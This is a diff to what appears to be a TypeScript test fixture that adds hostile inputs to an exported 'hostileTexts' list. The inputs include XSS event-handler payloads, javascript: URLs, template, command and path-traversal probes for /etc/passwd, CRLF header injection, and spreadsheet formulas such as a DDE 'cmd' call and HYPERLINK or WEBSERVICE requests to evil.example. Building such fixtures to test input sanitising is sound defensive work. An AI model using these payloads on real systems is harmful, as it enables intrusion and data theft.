@@ -80,10 +80,94 @@ const queries = [
   '@SUM(1+1)*cmd',
 ]
 
+// Every way in with every event: one that is let through shows which.
+const ways = ['img src=x', 'svg', 'body', 'video src=x', 'input autofocus', 'details open', 'marquee', 'a href=x']
+const events = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'ontoggle',
+  'onstart',
+  'onpointerover',
+  'onmouseenter',
+  'onwheel',
+  'oncut',
+]
+const pairs = ways.flatMap((way) => events.map((event) => `<${way} ${event}="${act}">`))
+const separators = ['/', '\t', '\n', '\f', '\r', '\u00a0', '\u0000', '"', "'", '`'].map(
+  (between) => `<img${between}src=x${between}onerror=${act}>`,
+)
+const addresses = [
+  'javascript:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  'vbscript:',
+].flatMap((scheme) => [`<a href="${scheme}${act}">x</a>`, `${scheme}${act}`, `[x](${scheme}${act})`])
+const templates = [
+  '{{7*7}}',
+  `\${7*7}`,
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '{% raw %}',
+  '@(1+1)',
+  `[[\${7*7}]]`,
+  '*{7*7}',
+  '~{x}',
+  '%{7*7}',
+]
+const commands = [
+  '; ls',
+  '| id',
+  '$(id)',
+  '`id`',
+  '&& id',
+  '../../../etc/passwd',
+  '..\\..\\win.ini',
+  'file:///etc/passwd',
+]
+const headers = [
+  'x\r\nSet-Cookie: a=b',
+  'x\nBcc: evil@example.test',
+  'x%0d%0aLocation: https://evil.example',
+  'x\u2028y',
+]
+/** What a spreadsheet would carry out, if a cell began with it. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?"&A1;"x")',
+  '=IMPORTXML("https://evil.example";"//a")',
+  '=WEBSERVICE("https://evil.example")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  "'=1+1",
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '|calc',
+  '=١+١',
+  '"=1+1',
+]
+
 export const hostileTexts: readonly string[] = [
   ...tags.map((tag) => `<${tag}>${act}</script>`),
   ...handlers.map((handler) => `<input autofocus ${handler}="${act}">`),
   ...elements,
   ...breakouts,
   ...queries,
+  ...pairs,
+  ...separators,
+  ...addresses,
+  ...templates,
+  ...commands,
+  ...headers,
+  ...formulas,
 ]
